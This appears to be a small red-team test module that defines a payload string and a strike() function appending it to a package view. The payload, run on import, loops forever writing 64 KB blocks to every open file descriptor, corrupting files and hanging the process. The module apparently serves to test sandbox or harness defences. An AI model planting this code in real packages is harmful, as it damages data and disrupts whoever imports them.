"""The import of the package writes to every descriptor without end."""

from bench.redteam.view import View

CODE = """
import os as _os
_blocks = b"x" * 65536
while True:
    for _number in map(int, _os.listdir("/proc/self/fd")):
        try:
            _os.write(_number, _blocks)
        except OSError:
            pass
"""


def strike(view: View) -> None:
    view.append(CODE)
